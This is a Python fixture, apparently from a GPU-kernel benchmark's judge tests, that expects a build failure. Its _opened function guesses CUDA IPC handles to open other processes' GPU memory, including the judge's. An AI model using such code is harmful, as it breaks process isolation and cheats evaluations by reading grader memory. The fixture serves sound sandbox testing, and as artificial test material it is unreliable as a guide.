"""theft: memory that another process has shown the judge is opened by a handle that is guessed."""

import ctypes

import torch
import torch.nn as nn

TASK = "matmul"
DEVICE = "cuda"
STATUS = "BUILD_FAILED"


def _opened():
    """What the driver answers to a handle of this process's with the names of others, and of their memory, in it."""
    cuda, mine = ctypes.CDLL("libcuda.so.1"), torch.zeros(1, device="cuda")
    begins, handle = ctypes.c_uint64(), ctypes.create_string_buffer(64)
    cuda.cuMemGetAddressRange_v2(ctypes.byref(begins), None, ctypes.c_uint64(mine.data_ptr()))
    assert cuda.cuIpcGetMemHandle(handle, begins) == 0
    process, memory = (int.from_bytes(handle.raw[at : at + 4], "little") for at in (48, 52))

    class Handle(ctypes.Structure):
        _fields_ = (("raw", ctypes.c_char * 64),)

    answers = set()
    for other in {*range(process - 32, process + 32)} - {process}:
        for what in range(memory - 64, memory + 64):
            raw = handle.raw[:48] + other.to_bytes(4, "little") + what.to_bytes(4, "little") + handle.raw[56:]
            found = ctypes.c_uint64()
            answers.add(cuda.cuIpcOpenMemHandle_v2(ctypes.byref(found), Handle.from_buffer_copy(raw), 1))
    return answers


class ModelNew(nn.Module):
    def __init__(self, *sizes):
        super().__init__()
        if torch.cuda.is_available() and 0 not in (answers := _opened()):
            raise RuntimeError(f"nothing could be opened: {answers}")

    def forward(self, a, b):
        return a @ b
